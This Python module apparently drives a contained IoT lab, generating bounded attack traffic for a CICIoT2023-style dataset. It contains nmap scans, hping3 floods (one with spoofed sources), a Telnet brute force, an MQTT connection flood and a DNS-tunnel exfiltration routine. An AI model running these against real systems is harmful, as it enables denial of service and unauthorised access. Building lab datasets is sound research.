"""The attacks: real tools, own targets, bounded in packets and time. One entry per type."""

from __future__ import annotations

import socket
import struct
import subprocess
import sys
import threading
from dataclasses import dataclass

from emtc_lab.topology import CLOUD_IP, DNS_IP, LAN

MAX_SECONDS = 90


@dataclass(frozen=True)
class Attack:
    """One type of attack.

    Attributes:
        family: Family by CICIoT2023's names.
        command: Command line; ``{victim}`` is filled in.
        origin: ``"lan"`` (the attacker host), ``"device"`` (a taken-over device) or ``"outside"``.
        victim: ``"device"``, ``"cloud"`` or ``"lan"`` (everybody).
    """

    family: str
    command: tuple[str, ...]
    origin: str
    victim: str


_OWN = (sys.executable, "-m", "emtc_lab.attacks")
ATTACKS: dict[str, Attack] = {
    "syn_scan": Attack(
        "recon",
        ("nmap", "-n", "-Pn", "-sS", "-p", "1-1000", "--max-rate", "120", "{victim}"),
        "lan",
        "device",
    ),
    "connect_scan": Attack(
        "recon",
        ("nmap", "-n", "-Pn", "-sT", "-p", "1-400", "--max-rate", "60", "{victim}"),
        "device",
        "device",
    ),
    "udp_scan": Attack(
        "recon",
        (
            "nmap",
            "-n",
            "-Pn",
            "-sU",
            "--top-ports",
            "60",
            "--max-rate",
            "40",
            "--max-retries",
            "1",
            "{victim}",
        ),
        "lan",
        "device",
    ),
    "slow_scan": Attack(
        "recon",
        ("nmap", "-n", "-Pn", "-sS", "--scan-delay", "1s", "--top-ports", "40", "{victim}"),
        "lan",
        "device",
    ),
    "arp_sweep": Attack("recon", ("nmap", "-n", "-sn", "--max-rate", "60", f"{LAN}.0/24"), "lan", "lan"),
    "syn_flood": Attack(
        "flood",
        ("hping3", "-q", "-S", "-p", "80", "-i", "u2000", "-c", "7500", "{victim}"),
        "device",
        "cloud",
    ),
    "syn_flood_random": Attack(
        "flood",
        ("hping3", "-q", "-S", "--rand-source", "-p", "502", "-i", "u2000", "-c", "7500", "{victim}"),
        "outside",
        "device",
    ),
    "udp_flood": Attack(
        "flood",
        ("hping3", "-q", "--udp", "-p", "9", "-d", "200", "-i", "u3000", "-c", "5000", "{victim}"),
        "device",
        "cloud",
    ),
    "icmp_flood": Attack(
        "flood",
        ("hping3", "-q", "--icmp", "-d", "56", "-i", "u3000", "-c", "5000", "{victim}"),
        "outside",
        "device",
    ),
    "telnet_brute_force": Attack("brute force", (*_OWN, "telnet", "{victim}"), "lan", "device"),
    "mqtt_connect_flood": Attack("mqtt", (*_OWN, "mqtt", CLOUD_IP), "device", "cloud"),
    "dns_tunnel": Attack("exfiltration", (*_OWN, "dns", DNS_IP), "device", "cloud"),
}
DEMO = ("syn_scan", "syn_flood_random")


def _telnet(victim: str) -> None:
    """Try a short list of names and passwords."""
    for _ in range(60):
        with socket.create_connection((victim, 23), timeout=3) as connection:
            for word in (b"admin\r\n", b"1234\r\n"):
                connection.recv(256)
                connection.sendall(word)
            connection.recv(256)
        threading.Event().wait(0.25)


def _mqtt(broker: str) -> None:
    """Open sessions as fast as a device can."""
    for number in range(900):
        name = b"bot%d" % number
        body = b"\x00\x04MQTT\x04\x02\x00\x3c" + struct.pack(">H", len(name)) + name
        with socket.create_connection((broker, 1883), timeout=3) as connection:
            connection.sendall(bytes([0x10, len(body)]) + body)
            connection.recv(16)
        threading.Event().wait(0.02)


def _dns(server: str) -> None:
    """Carry data out in the names of TXT queries."""
    for number in range(80):
        name = f"{number:04x}{'deadbeef' * 6}.{'cafe' * 8}.t.example.net"
        command = ("dig", "+tries=1", "+time=1", f"@{server}", "TXT", name)
        subprocess.run(command, capture_output=True, check=False, timeout=10)
        threading.Event().wait(0.2)


if __name__ == "__main__":
    {"telnet": _telnet, "mqtt": _mqtt, "dns": _dns}[sys.argv[1]](sys.argv[2])
